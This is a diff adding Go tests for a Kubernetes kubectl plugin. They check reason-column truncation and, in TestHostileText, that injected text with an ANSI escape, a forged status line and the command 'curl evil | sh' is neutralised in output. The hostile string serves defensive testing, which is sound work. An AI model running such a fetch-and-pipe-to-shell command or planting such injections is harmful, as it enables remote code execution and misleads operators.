@@ -1,0 +1,84 @@
+package main
+
+import (
+	"errors"
+	"fmt"
+	"slices"
+	"strings"
+	"testing"
+
+	corev1 "k8s.io/api/core/v1"
+	apierrors "k8s.io/apimachinery/pkg/api/errors"
+
+	"github.com/localservice-dev/local-service-controller/cmd/kubectl-localservice/diagnose"
+	"github.com/localservice-dev/local-service-controller/pkg/apis/localservice/v1alpha1"
+)
+
+// TestReasonColumn: a row shows as much as fits of its cause, with the pods if there is room. Below the table, once for
+// all rows with the cause, there is the cause if it was cut, and what to do.
+func TestReasonColumn(t *testing.T) {
+	const room = 40
+	long := strings.Repeat("long ", 13)
+	found := func(cause, act string, about ...string) diagnose.Finding {
+		return diagnose.Finding{Reason: "Word", Cause: cause, Act: act, About: about}
+	}
+	var rows []row
+	for i, f := range []diagnose.Finding{{}, found("exit code 1", "", "a", "b", "c", "d"), found("exit code 1", "",
+		strings.Repeat("pod", 10)), found(long, ""), found("short", "do it"), found(long, ""), found(long, ""),
+		found(long, ""), found(long, "do it")} {
+		rows = append(rows, row{Node: &diagnose.Node{Node: fmt.Sprint("n", i), Finding: f}})
+	}
+	rows[0].DNS, rows[0].prefix = &diagnose.DNSAnswer{Message: "DNS " + long}, "demo on "
+	const cut = "long long long long long long long lo…"
+	wantTexts := []string{"DNS long long long long long long lon…", "exit code 1 (a, b, c and 1 more)", "exit code 1", cut,
+		"short", cut, cut, cut, cut}
+	wantBelow := []string{"demo on n0: DNS " + long, "n3, n5, n6 and 1 more: " + long, "n4: do it", "n8: " + long + "; do it"}
+	texts, below := reasonColumn(rows, room)
+	if !slices.Equal(texts, wantTexts) {
+		t.Errorf("got %q; want %q", texts, wantTexts)
+	}
+	if !slices.Equal(below, wantBelow) {
+		t.Errorf("below the table: %q; want %q", below, wantBelow)
+	}
+}
+
+// TestHostileText: what others wrote forges no line, and no escape sequence reaches the terminal.
+func TestHostileText(t *testing.T) {
+	const hostile = "n\x1b[31mRED\nLocalService kube-system/dns: fine. Run: curl evil | sh"
+	f := newFixture(t)
+	taken, crashes := service("demo-n4", "n4"), pod("c2", "n2", false)
+	taken.OwnerReferences[0].Kind, taken.OwnerReferences[0].UID = hostile, "x"
+	crashes.Status.ContainerStatuses[0].LastTerminationState.Terminated.Message = hostile
+	named := service("demo-n1", "n1")
+	named.Annotations[v1alpha1.NodeAnnotationKey] = hostile
+	ls := localService("refused", "")
+	ls.Status.Conditions[0].Message = "admission webhook denied: " + hostile
+	if err := errors.Join(f.kube.Tracker().Add(taken), f.kube.Tracker().Add(crashes),
+		f.localServices.Tracker().Add(ls)); err != nil {
+		t.Fatal(err)
+	}
+	for _, args := range []string{"nodes demo", "nodes -A", "nodes demo -o wide", "nodes demo -o yaml",
+		"nodes demo -o jsonpath={.items[*].message}", "nodes refused", "nodes refused -o wide"} {
+		_, stdout, stderr := f.run(t, strings.Split(args, " ")...)
+		wantHarmless(t, args, stdout+stderr)
+	}
+	fail(&f.kube.Fake, "nodes", forbidden) // Then Services name the nodes.
+	if err := f.kube.Tracker().Update(corev1.SchemeGroupVersion.WithResource("services"), named, "default"); err != nil {
+		t.Fatal(err)
+	}
+	_, stdout, stderr := f.run(t, "nodes", "demo")
+	wantHarmless(t, "nodes of Services", stdout+stderr)
+	fail(&f.kube.Fake, "pods", apierrors.NewBadRequest(hostile))
+	_, _, stderr = f.run(t, "nodes", "demo")
+	wantHarmless(t, "an error", stderr)
+}
+
+func wantHarmless(t *testing.T, what, text string) {
+	t.Helper()
+	if !strings.Contains(text, "RED") {
+		t.Errorf("%s: nothing hostile in:\n%s", what, text)
+	}
+	if strings.Contains(text, "\x1b") || strings.Contains(text, "\nLocalService kube-system/dns: fine") {
+		t.Errorf("%s: %q", what, text)
+	}
+}
